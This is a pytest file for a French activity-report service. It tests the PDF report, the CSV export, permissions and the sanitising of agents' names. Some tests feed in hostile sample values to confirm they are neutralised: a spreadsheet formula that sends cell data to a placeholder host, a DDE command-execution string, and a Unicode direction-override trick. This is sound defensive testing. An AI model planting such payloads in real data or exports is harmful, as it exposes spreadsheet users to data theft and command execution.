"""Rapport d'activité (PDF read back with pdftotext, rendered with pdftoppm) and CSV export (French dialect)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest
from activitykit import AGENT, NOW, Seeded, context, seed_activity
from sqlalchemy import select

from desktop.models import AuditEvent
from desktop.models.db import Store
from desktop.services.dashboard_values import ActKind
from desktop.services.permissions import PermissionDenied
from desktop.services.reports import CSV_COLUMNS, ActivityService, FrenchCsv, PeriodError

FIRST, LAST = NOW.date() - timedelta(days=6), NOW.date()
KIND_LABELS = {k.value: k.label for k in ActKind}  # a total: « Procurations 12 »
ONE_LABELS = {k.value: k.one_label for k in ActKind}  # a line, one act: « Procuration »


@pytest.fixture
def seeded(store: Store) -> Seeded:
    return seed_activity(store, now=NOW, count=300)


def expected_acts(seeded: Seeded) -> list:  # type: ignore[type-arg]
    return [a for a in seeded.acts if FIRST <= seeded.day(a) <= LAST]


def test_csv_reads_back_with_the_french_dialect(store: Store, tmp_path: Path, seeded: Seeded) -> None:
    data = ActivityService(context(store, tmp_path)).export_csv(first=FIRST, last=LAST)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect=FrenchCsv))
    assert tuple(rows[0]) == CSV_COLUMNS
    acts = expected_acts(seeded)
    assert sorted(r[3] for r in rows[1:]) == sorted(a.receipt_number for a in acts)
    by_number = {a.receipt_number: a for a in acts}
    for row in rows[1:]:
        act = by_number[row[3]]
        local = act.at.astimezone(seeded.zone)
        assert row[0] == local.strftime("%d/%m/%Y") and re.fullmatch(r"\d\d:\d\d", row[1])
        assert row[2] == ONE_LABELS[act.kind] and row[7] == act.agent_id
    with store.read() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "activite.export_csv")).one()
    assert event.detail == f"du={FIRST.isoformat()} au={LAST.isoformat()} actes={len(acts)}"


def test_pdf_totals_read_back_and_page_renders(store: Store, tmp_path: Path, seeded: Seeded) -> None:
    if not (shutil.which("pdftotext") and shutil.which("pdftoppm")):
        pytest.skip("poppler-utils absent")
    pdf = ActivityService(context(store, tmp_path)).report_pdf(first=FIRST, last=LAST)
    path = tmp_path / "rapport.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    acts = expected_acts(seeded)
    kinds = Counter(KIND_LABELS[a.kind] for a in acts)
    for label, n in kinds.items():
        assert re.search(rf"^\s*{re.escape(label)}\s+{n}\b", text, re.M), label
    assert f"Actes enregistrés : {len(acts)}." in text
    # Each line is one act: « Procuration », the totals « Procurations » (the « Nature » column said the plural).
    lines = Counter(ONE_LABELS[a.kind] for a in acts)
    assert len(re.findall(r"\bProcuration\b", text)) >= lines["Procuration"] > 0
    for a in acts[:5]:
        assert a.receipt_number in text
    assert "Mme Claire Fontaine" in text or "M. Paul Roy" in text
    assert "Le chef de poste" in text and "Signature et cachet" in text
    assert "TESTNOM" not in text  # no elector's name
    subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(path), str(tmp_path / "p")], check=True)
    png = next(tmp_path.glob("p*.png"))
    assert png.stat().st_size > 5000
    with store.read() as s:
        assert s.scalars(select(AuditEvent).where(AuditEvent.action == "activite.rapport")).one()


def test_report_refused_without_the_role_and_audited(store: Store, tmp_path: Path) -> None:
    with pytest.raises(PermissionDenied):
        ActivityService(context(store, tmp_path, AGENT)).export_csv(first=FIRST, last=LAST)
    with store.read() as s:
        assert s.scalars(select(AuditEvent.detail).where(AuditEvent.action == "acces.refuse")).all() == [
            "activite.exporter"
        ]


def test_a_reversed_period_is_refused_in_french(store: Store, tmp_path: Path) -> None:
    with pytest.raises(PeriodError, match="précède"):
        ActivityService(context(store, tmp_path)).report(first=LAST, last=FIRST)


def test_csv_export_neutralises_formula_injection(store: Store, tmp_path: Path, seeded: Seeded) -> None:
    """An agent's name a spreadsheet would run (`=HYPERLINK(…)`) is written as text, with a leading `'` (OWASP)."""
    from desktop.models import Agent

    hostile = {"agent-1": '=HYPERLINK("http://x.invalid/?"&A1;"Voir")', "agent-2": "@SUM(1+1)"}
    with store.write() as s:
        for agent_id, name in hostile.items():
            s.get(Agent, agent_id).display_name = name
    data = ActivityService(context(store, tmp_path)).export_csv(first=FIRST, last=LAST)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect=FrenchCsv))
    names = {row[7]: row[6] for row in rows[1:]}
    assert names["agent-1"] == "'" + hostile["agent-1"] and names["agent-2"] == "'" + hostile["agent-2"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert names["chef-1"] == "Mme Anne Lambert"  # an ordinary text is left as it is


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_csv_export_holds_no_formula_for_a_spreadsheet_splitting_on_another_separator(
    store: Store, tmp_path: Path, seeded: Seeded, delimiter: str
) -> None:
    """LibreOffice Calc splits on the comma and the tab as well as on `;` by default, Excel outside France on the
    comma: an agent's name « Dupont,=cmd|' /C calc'!A0 » (no `;`, so not quoted) made a cell « =cmd|… » it ran."""
    from desktop.models import Agent

    with store.write() as s:
        s.get(Agent, "agent-1").display_name = "Dupont,=cmd|' /C calc'!A0"
        s.get(Agent, "agent-2").display_name = "Martin\t@SUM(1+1)"
    data = ActivityService(context(store, tmp_path)).export_csv(first=FIRST, last=LAST).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=delimiter))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    french = list(csv.reader(io.StringIO(data, newline=""), dialect=FrenchCsv))
    names = {row[7]: row[6] for row in french[1:]}
    assert names["agent-1"] == "Dupont,'=cmd|' /C calc'!A0" and names["agent-2"] == "Martin @SUM(1+1)"  # TAB: space
    assert {len(row) for row in french} == {len(CSV_COLUMNS)}


def test_the_report_counts_the_acts_of_each_agent(store: Store, tmp_path: Path, seeded: Seeded) -> None:
    """« Combien d'actes par agent cette semaine ? » The report totalled by kind, channel and status only: the chef de
    poste counted the agents' lines by hand. A « Par agent » total now stands beside « Par statut »."""
    from activitykit import AGENTS

    report = ActivityService(context(store, tmp_path)).report(first=FIRST, last=LAST)
    names = dict(AGENTS)
    expected = Counter(names[a.agent_id] for a in expected_acts(seeded))
    assert dict(report.by_agent) == dict(expected) and sum(expected.values()) == len(report.lines)
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils absent")
    path = tmp_path / "rapport.pdf"
    path.write_bytes(ActivityService(context(store, tmp_path)).report_pdf(first=FIRST, last=LAST))
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "Par agent" in text
    for name, n in expected.items():
        assert re.search(rf"{re.escape(name)}\s+{n}\b", text), name


def test_the_csv_names_each_agent_by_the_login_the_agents_screen_shows(
    store: Store, tmp_path: Path, seeded: Seeded
) -> None:
    """« Identifiant agent » held the account's internal number (« 0193a5c2-… » at a real station) where the Agents
    screen calls « Identifiant » the login the agent types: the column said one thing and held another. The internal
    number keeps its place under its own name (the audit log's), the login comes after it."""
    from sqlalchemy import update

    from desktop.models import Agent

    with store.write() as s:
        s.execute(update(Agent).where(Agent.id == "agent-1").values(login="cfontaine"))
    data = ActivityService(context(store, tmp_path)).export_csv(first=FIRST, last=LAST)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect=FrenchCsv))
    assert rows[0][6:] == ["Agent", "Numéro interne de l'agent", "Identifiant de connexion"]
    mine = [r for r in rows[1:] if r[7] == "agent-1"]
    assert mine and all(r[8] == "cfontaine" for r in mine)


def test_an_agent_name_stored_by_an_older_version_reads_as_written(
    store: Store, tmp_path: Path, seeded: Seeded
) -> None:
    """Accounts created before agents' names were checked (session 33) may hold a direction or invisible character:
    « Paul \u202eTNOMUD » read « Paul DUMONT » in the report and in the CSV export's spreadsheet."""
    from desktop.models import Agent

    with store.write() as s:
        s.get(Agent, "agent-1").display_name = "Paul \u202eTNOMUD\u200b"
    service = ActivityService(context(store, tmp_path))
    data = service.export_csv(first=FIRST, last=LAST).decode("utf-8-sig")
    names = {row[7]: row[6] for row in csv.reader(io.StringIO(data, newline=""), dialect=FrenchCsv)}
    assert names["agent-1"] == "Paul TNOMUD"
    report = service.report(first=FIRST, last=LAST)
    assert "Paul TNOMUD" in {line.agent for line in report.lines}
    assert not any("\u202e" in line.agent for line in report.lines)
